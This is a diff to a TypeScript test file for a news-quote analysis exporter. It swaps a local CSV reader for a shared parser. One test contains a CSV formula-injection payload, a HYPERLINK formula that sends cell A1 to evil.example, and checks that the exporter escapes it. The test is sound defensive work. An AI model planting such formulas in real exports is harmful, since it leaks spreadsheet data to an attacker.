@@ -1,28 +1,9 @@
 import { describe, expect, it } from 'vitest';
 import { CSV_COLUMNS, csvCell, parseJsonExport, toCsv, toJson, toMarkdown } from '../../../utils/export';
 import { SEED_TITLE, seedAnalysis } from './fixture';
+import { parseCsv } from '../csv';
 
 const SOURCE = { title: SEED_TITLE, url: 'https://www.quotidien-du-monde.example/international/choigou.html', partial: false };
-
-/** Minimal RFC 4180 reader for the tests (quoted cells, doubled quotes, CRLF). */
-function readCsv(csv: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < csv.length; i++) {
-    const c = csv[i];
-    if (quoted) {
-      if (c === '"' && csv[i + 1] === '"') (cell += '"'), i++;
-      else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') row.push(cell), (cell = '');
-    else if (c === '\r' && csv[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
-    else cell += c;
-  }
-  return rows;
-}
 
 describe('Markdown export', () => {
   const markdown = toMarkdown(seedAnalysis(), SOURCE);
@@ -51,7 +32,7 @@ describe('Markdown export', () => {
 
 describe('CSV export', () => {
   it('writes one row per statement with a header, in text order', () => {
-    const rows = readCsv(toCsv(seedAnalysis()));
+    const rows = parseCsv(toCsv(seedAnalysis()));
     expect(rows[0]).toEqual([...CSV_COLUMNS]);
     expect(rows.length).toBe(14);
     expect(rows[1].slice(0, 7)).toEqual(['q1', 'Sergueï Choïgou', 'person', 'ministre russe de la Défense', 'RU', 'indirect', 'a salué']);
@@ -64,7 +45,7 @@ describe('CSV export', () => {
     analysis.speakers[0].name = payload;
     const csv = toCsv(analysis);
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Sergueï, click"")"`);
-    const rows = readCsv(csv);
+    const rows = parseCsv(csv);
     expect(rows[1][1]).toBe(`'${payload}`);
     expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
   });
